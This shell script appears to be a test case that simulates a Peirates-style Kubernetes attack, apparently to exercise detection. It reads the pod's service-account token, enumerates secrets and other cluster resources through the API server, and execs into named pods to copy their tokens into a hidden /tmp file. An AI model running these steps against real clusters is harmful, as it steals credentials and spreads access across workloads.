#!/bin/sh
. /opt/case/case.sh

k=/run/secrets/kubernetes.io/serviceaccount; t=$(cat $k/token); n=$(cat $k/namespace)
c() { curl -sk -m 3 -A peirates -H "Authorization: Bearer $t" "http://10.77.0.1:6443$1" ${2:+-X POST -H 'Content-Type: application/json' -d "$2"} >>/tmp/.pei; }
c /apis/authorization.k8s.io/v1/selfsubjectrulesreviews "{\"spec\":{\"namespace\":\"$n\"}}"
for r in namespaces nodes secrets serviceaccounts pods configmaps; do c /api/v1/$r; done
for p in web-0 db-0 kube-proxy-x; do c "/api/v1/namespaces/$n/pods/$p/exec?command=cat&command=/run/secrets/kubernetes.io/serviceaccount/token&stdout=true" '{}'; done
test "$(wc -l </tmp/.pei)" -gt 5
took_place
